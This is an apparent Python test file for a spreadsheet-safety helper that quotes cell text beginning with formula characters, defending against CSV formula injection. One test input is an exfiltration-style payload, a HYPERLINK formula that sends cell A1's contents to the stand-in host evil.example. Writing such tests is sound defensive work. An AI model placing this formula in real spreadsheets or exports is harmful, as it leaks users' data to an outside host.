"""Spreadsheet-safe cells: text that would run as a formula is quoted, nothing else changes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imsk.core.spreadsheet import FORMULA_STARTS, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"],
)
def test_text_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@given(st.text())
def test_no_safe_text_cell_starts_like_a_formula_and_the_original_is_recoverable(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_and_nulls_are_left_alone(value: object) -> None:
    assert safe_cell(value) is value


def test_ordinary_text_is_unchanged() -> None:
    assert safe_cell("7A4-MSK01") == "7A4-MSK01"
    assert safe_cell("a-b=c") == "a-b=c"
